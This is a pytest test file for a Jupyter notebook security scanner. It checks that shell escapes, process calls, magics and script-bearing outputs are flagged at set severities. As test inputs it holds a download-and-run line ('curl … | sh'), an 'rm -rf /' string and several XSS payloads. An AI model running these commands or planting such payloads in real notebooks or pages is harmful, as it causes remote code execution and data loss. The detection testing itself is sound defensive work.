"""Tests for datagate.scan.notebooks: code cells, shell escapes and script outputs (THREATS.md B15)."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from datagate.models import Finding, Severity, Skip
from datagate.scan.interface import Blob, ContentKind, Limits, ScanContext, Scanner
from datagate.scan.notebooks import NOTEBOOK_SCANNER, strip_magics
from datagate.scan.sniff import sniff
from fixtures.gen.executables import build


def _nb(*cells: dict[str, Any], **meta: Any) -> bytes:
    return json.dumps(
        {"nbformat": 4, "nbformat_minor": 5, "metadata": meta, "cells": list(cells)}
    ).encode()


def _code(src: str, outputs: list[dict[str, Any]] | None = None) -> dict[str, Any]:
    return {
        "cell_type": "code",
        "source": src,
        "outputs": outputs or [],
        "metadata": {},
        "execution_count": None,
    }


def _scan(
    data: bytes,
    name: str = "a.ipynb",
    kind: ContentKind | None = ContentKind.NOTEBOOK,
    ctx: ScanContext | None = None,
) -> list[Finding | Skip]:
    out = list(
        NOTEBOOK_SCANNER.scan(Blob(f"r/{name}", data, name=name, kind=kind), ctx or ScanContext())
    )
    assert all(isinstance(x, (Finding, Skip)) for x in out)
    return [x for x in out if isinstance(x, (Finding, Skip))]


def _rules(items: list[Finding | Skip]) -> dict[str, Finding]:
    return {f.rule: f for f in items if isinstance(f, Finding)}


def test_scanner_protocol() -> None:
    assert isinstance(NOTEBOOK_SCANNER, Scanner) and ContentKind.NOTEBOOK in NOTEBOOK_SCANNER.kinds


def test_b15_fixture(tmp_path: Path) -> None:
    samples = {s.name: s for s in build(tmp_path)}
    s = samples["b15_notebook"]
    data = s.path(tmp_path).read_bytes()
    kind, _ = sniff(data)
    assert kind is ContentKind.NOTEBOOK
    r = _rules(_scan(data, "analysis.ipynb", kind))
    assert r["notebook.present"].severity is Severity.LOW
    assert r["notebook.code.process"].severity is Severity.HIGH
    assert r["notebook.code.process"].evidence["calls"][0] == {
        "name": "os.system",
        "line": 2,
        "scope": "cell 0",
    }
    assert r["notebook.shell"].evidence["escapes"][0]["cell"] == 1
    assert r["notebook.output.script"].severity is Severity.HIGH
    assert r["notebook.output.script"].evidence["outputs"][0]["mime"] == "text/html"
    # the payload is real: extracting the code cells and running them prints the marker
    assert s.naive_load and s.payload_marker
    code = f"PATH = {str(s.path(tmp_path))!r}\n{s.naive_load}\n"
    res = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, timeout=60, cwd=tmp_path
    )
    assert s.payload_marker in res.stdout, res.stderr


def test_plain_notebook_is_in_scope_but_quiet() -> None:
    r = _rules(_scan(_nb({"cell_type": "markdown", "source": "# hi"})))
    assert set(r) == {"notebook.present"} and r["notebook.present"].severity is Severity.INFO
    r2 = _rules(
        _scan(
            _nb(
                _code(
                    "import pandas as pd\ndf = pd.DataFrame({'a': [1]})\ndf.head()\n%matplotlib inline"
                )
            )
        )
    )
    assert set(r2) == {"notebook.present"} and r2["notebook.present"].severity is Severity.LOW


def test_strip_magics_keeps_line_numbers() -> None:
    cell = strip_magics(
        "import os\n!ls -la\n%run other.py\nfiles = !ls\n  %time x = 1\nos.system('x')\nhelp?"
    )
    assert cell.source.split("\n") == [
        "import os",
        "pass",
        "pass",
        "pass",
        "  pass",
        "os.system('x')",
        "pass",
    ]
    assert [ln for ln, _ in cell.shell] == [2, 4]
    assert [ln for ln, _ in cell.magics] == [3, 5]


@pytest.mark.parametrize("magic", ["%%bash", "%%sh", "%%script bash", "%%system", "%%powershell"])
def test_shell_cell_magics(magic: str) -> None:
    r = _rules(_scan(_nb(_code(f"{magic}\necho hi\n"))))
    assert r["notebook.shell"].severity is Severity.HIGH
    assert "notebook.code.unparseable" not in r


def test_shell_escape_with_download_pipe_is_critical() -> None:
    r = _rules(_scan(_nb(_code("!curl -s http://x/a.sh | sh\n"))))
    assert r["notebook.shell"].severity is Severity.CRITICAL


def test_line_magics_system_and_ipython_calls() -> None:
    r = _rules(_scan(_nb(_code("%system id\nx = %sx ls\nget_ipython().system('id')\n"))))
    assert r["notebook.shell"].evidence["count"] == 3


def test_run_load_writefile_and_javascript() -> None:
    r = _rules(
        _scan(_nb(_code("%run other.py\n%load x.py"), _code("%%writefile /tmp/x.py\nprint(1)\n")))
    )
    assert r["notebook.magic"].severity is Severity.MEDIUM
    assert {m["magic"] for m in r["notebook.magic"].evidence["magics"]} == {
        "run",
        "load",
        "writefile",
    }
    r2 = _rules(_scan(_nb(_code("%%javascript\nalert(1)\n"))))
    assert r2["notebook.magic"].severity is Severity.HIGH


def test_python_cell_magic_body_is_analysed() -> None:
    r = _rules(_scan(_nb(_code("%%time\nimport subprocess\nsubprocess.run(['id'])\n"))))
    assert r["notebook.code.process"].evidence["calls"][0]["line"] == 3


def test_shell_kernel_cells_are_shell() -> None:
    r = _rules(_scan(_nb(_code("ls -la\n"), kernelspec={"name": "bash", "language": "bash"})))
    assert r["notebook.shell"].severity is Severity.HIGH


def test_unparseable_cell_is_reported() -> None:
    r = _rules(_scan(_nb(_code("def f(:\n"))))
    assert r["notebook.code.unparseable"].evidence["cells"][0]["cell"] == 0


@pytest.mark.parametrize(
    ("mime", "value"),
    [
        ("application/javascript", "alert(1)"),
        ("text/html", "<img src=x onerror=alert(1)>"),
        ("text/html", ["<a href='javascript:alert(1)'>", "x</a>"]),
        ("image/svg+xml", "<svg><script>alert(1)</script></svg>"),
    ],
)
def test_script_outputs(mime: str, value: Any) -> None:
    out = {"output_type": "display_data", "metadata": {}, "data": {mime: value}}
    r = _rules(_scan(_nb(_code("x", [out]))))
    assert r["notebook.output.script"].severity is Severity.HIGH


def test_harmless_html_output_is_quiet() -> None:
    out = {
        "output_type": "execute_result",
        "metadata": {},
        "data": {"text/html": "<table><tr><td>1</td></tr></table>"},
    }
    assert "notebook.output.script" not in _rules(_scan(_nb(_code("df", [out]))))


def test_widget_state_with_js() -> None:
    widgets = {
        "application/vnd.jupyter.widget-state+json": {
            "state": {"m": {"state": {"_esm": "export default {}"}}}
        }
    }
    r = _rules(_scan(_nb(_code("w"), widgets=widgets)))
    assert "notebook.output.script" in r


def test_markdown_with_script() -> None:
    r = _rules(_scan(_nb({"cell_type": "markdown", "source": "hi <script>alert(1)</script>"})))
    assert r["notebook.markdown.script"].severity is Severity.MEDIUM


def test_nbformat3_worksheets() -> None:
    nb = {
        "nbformat": 3,
        "worksheets": [
            {"cells": [{"cell_type": "code", "input": "import os\nos.system('x')", "outputs": []}]}
        ],
    }
    assert "notebook.code.process" in _rules(_scan(json.dumps(nb).encode()))


def test_not_json_or_not_a_notebook() -> None:
    r = _rules(_scan(b"{not json", "a.ipynb", ContentKind.TEXT))
    assert r["notebook.unparseable"].severity is Severity.MEDIUM
    r2 = _rules(_scan(b'{"a": 1}', "a.ipynb", ContentKind.JSON))
    assert "notebook.unparseable" in r2
    r3 = _rules(_scan(b"[" * 100000 + b"]" * 100000, "a.ipynb", ContentKind.JSON))
    assert "notebook.unparseable" in r3


def test_json_data_is_not_a_notebook() -> None:
    data = json.dumps([{"html": "<script>x</script>", "code": "!rm -rf /"}]).encode()
    assert _scan(data, "pages.json", ContentKind.JSON) == []


def test_notebook_under_another_name() -> None:
    r = _rules(_scan(_nb(_code("!id")), "data.json", ContentKind.JSON))
    assert "notebook.shell" in r


def test_over_limit_is_skipped() -> None:
    items = _scan(_nb(_code("x = 1\n" * 100)), ctx=ScanContext(limits=Limits(max_text_bytes=100)))
    assert any(isinstance(i, Skip) and "max_text_bytes" in i.reason for i in items)
    assert _rules(items)["notebook.present"].severity is Severity.MEDIUM


@settings(max_examples=60, deadline=None)
@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.text(max_size=20),
        lambda c: (
            st.lists(c, max_size=4)
            | st.dictionaries(
                st.sampled_from(
                    [
                        "cells",
                        "cell_type",
                        "source",
                        "outputs",
                        "data",
                        "metadata",
                        "text/html",
                        "code",
                        "worksheets",
                        "input",
                        "kernelspec",
                        "widgets",
                    ]
                ),
                c,
                max_size=4,
            )
        ),
        max_leaves=30,
    )
)
def test_fuzz_structures_never_raise(value: Any) -> None:
    _scan(
        json.dumps(
            {
                "nbformat": 4,
                "cells": [value, {"cell_type": "code", "source": value, "outputs": [value]}],
                "metadata": value,
            }
        ).encode()
    )
